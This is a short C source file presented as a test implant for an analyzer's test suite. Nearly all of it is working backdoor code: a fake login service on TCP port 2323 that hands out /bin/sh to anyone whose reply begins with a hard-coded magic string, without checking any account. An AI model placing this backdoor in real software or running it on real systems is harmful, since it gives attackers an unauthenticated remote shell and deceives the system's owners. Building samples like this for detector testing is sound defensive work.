/* Test implant: a "login" service with a magic-string authentication bypass. It listens
 * on TCP 2323, prints a password prompt and hands out /bin/sh when the reply starts with a
 * literal string compiled into the program; it never consults the account database.
 * Built for the analyzer tests only; never run it. */
#include "implant.h"

static const char magic[] = "xc3511-debug";

int main(void) {
    struct sockaddr_in sa = {0};
    char *argv[] = {"sh", 0};
    char buf[64];
    int s = socket(AF_INET, SOCK_STREAM, 0);
    sa.sin_family = AF_INET;
    sa.sin_port = htons(2323);
    bind(s, (void *)&sa, sizeof sa);
    listen(s, 4);
    for (;;) {
        int c = accept(s, 0, 0);
        if (c < 0)
            continue;
        write(c, "Password: ", 10);
        if (read(c, buf, sizeof buf) > 0 && strncmp(buf, magic, sizeof magic - 1) == 0) {
            dup2(c, 0);
            dup2(c, 1);
            dup2(c, 2);
            execve("/bin/sh", argv, 0);
        }
        write(c, "Login incorrect\n", 16);
        close(c);
    }
    return 0;
}
